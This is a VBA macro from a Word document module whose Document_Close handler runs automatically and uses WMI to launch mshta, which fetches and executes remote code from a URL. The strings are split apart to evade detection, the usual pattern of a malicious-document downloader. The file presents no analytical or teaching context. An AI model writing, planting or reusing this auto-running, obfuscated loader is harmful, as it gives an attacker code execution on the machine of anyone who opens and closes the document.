Attribute VB_Name = "ThisDocument"

Sub Document_Close()
    Set w = GetObject("winmgmts:" & "root\cimv2")
    Set p = w.Get("Win32_" & "Process")
    t = "ms" & "hta ht" & "tp://host.example/" & "wm"
    p.Create t, Null, Null, i
End Sub
